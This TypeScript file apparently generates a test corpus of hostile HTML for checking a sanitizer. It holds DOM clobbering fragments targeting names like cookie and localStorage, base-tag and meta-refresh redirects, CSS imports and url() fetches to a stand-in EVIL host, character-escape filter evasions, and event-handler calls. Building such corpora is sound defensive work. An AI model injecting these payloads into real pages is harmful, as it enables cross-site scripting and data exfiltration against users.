// Generated malicious HTML: each piece tries to call `__ran`, to fetch from another host, or to overwrite a name that
// scripts rely on (DOM clobbering).
import { namespaces, unlistedPlayers } from "./html-confusion";
import { handlers } from "./html-handlers";
import { addresses } from "./html-addresses";
import { EVIL, type Maker } from "./piece";

export type Hostile = { id: number; html: string };

/** Names of global objects, and of this site's. */
export const CLOBBERED = [
  ...["body", "head", "cookie", "forms", "images", "scripts", "getElementById", "querySelector"],
  ...["createElement", "currentScript", "defaultView", "documentElement", "implementation", "location"],
  ...["localStorage", "__next_f", "__next_r", "NEXT_DEPLOYMENT_ID", "sanitizer", "config", "userId"],
];

const clobbering = (): Maker[] =>
  CLOBBERED.flatMap((name) => [
    () => `<img name="${name}" src="/icon.svg">`,
    () => `<form id="${name}"><input name="attributes"><input name=nodeName></form>`,
    () => `<a id="${name}"></a><a id="${name}" name="href" href="mailto:clobber">甲</a>`,
  ]);

const base: Maker[] = [
  (id) => `<base href="${EVIL}/${id}/"><img src="a/b.png">`,
  (id) => `<BASE HREF=${EVIL}/${id}/ target=_parent><img src=a/b.png>`,
  (id) => `<svg><base href="${EVIL}/${id}/"></svg><base href="${EVIL}/${id}/"><img src=a/b.png>`,
  (id) => `<meta http-equiv="refresh" content="0;url=${EVIL}/${id}">`,
  (id) => `<META HTTP-EQUIV=Refresh CONTENT='0; URL="${EVIL}/${id}"'>`,
  (id) => `<p><meta http-equiv=refresh content="0,${EVIL}/${id}"></p>`,
  (id) => `<svg><meta http-equiv=refresh content="0;${EVIL}/${id}"></svg>`,
  (id) => `<noscript></noscript><meta http-equiv=re&#102;resh content=0;url=${EVIL}/${id}>`,
];

const styles: Maker[] = [
  (id) => `<style>@import "${EVIL}/${id}";</style>`,
  (id) => `<style>body{background:url(${EVIL}/${id})}</style>`,
  (id) => `<style>@\\69mport url(${EVIL}/${id});</style>`,
  (id) =>
    `<STYLE type="text/css">*{list-style:u\\72l("${EVIL}/${id}")}li{display:list-item}</STYLE><li>甲</li>`,
  (id) => `<svg><style>@import url(${EVIL}/${id});</style></svg>`,
  (id) =>
    `<style>@font-face{font-family:x${id};src:url(${EVIL}/${id})}p{font-family:x${id}}</style><p>甲</p>`,
  (id) => `<style>p{animation:a${id} 1s}@keyframes a${id}{}</style><p onanimationstart="__ran(${id})">甲</p>`,
  (id) => `<link rel=stylesheet href="${EVIL}/${id}">`,
  (id) => `<LINK REL="stylesheet preload" HREF=${EVIL}/${id}>`,
  (id) => `<link rel="prefetch stylesheet" href="data:text/css,body{background:url(${EVIL}/${id})}">`,
  (id) => `<link rel=icon href="${EVIL}/${id}"><link rel=preload as=image href="${EVIL}/${id}">`,
  (id) => `<link rel=modulepreload href="${EVIL}/${id}"><link rel=manifest href="${EVIL}/${id}">`,
  ...["p", "td", "a", "h2", "figure", "div", "li", "strong"].flatMap((tag): Maker[] => [
    (id) => `<${tag} style="background:url(${EVIL}/${id})">甲</${tag}>`,
    (id) => `<${tag} style="background:u&#114;l('${EVIL}/${id}')">甲</${tag}>`,
    (id) => `<${tag} style="border-image:\\75rl(${EVIL}/${id}) 1;border-style:solid">甲</${tag}>`,
    (id) => `<${tag} style="width:expression(__ran(${id}));behavior:url(${EVIL}/${id})">甲</${tag}>`,
  ]),
];

/** The whole corpus, identical at every run. */
export const hostileHtml = (): Hostile[] =>
  [
    ...handlers(),
    ...addresses(),
    ...namespaces(),
    ...unlistedPlayers(),
    ...base,
    ...styles,
    ...clobbering(),
  ].map((make, index) => ({ id: index + 1, html: make(index + 1) }));
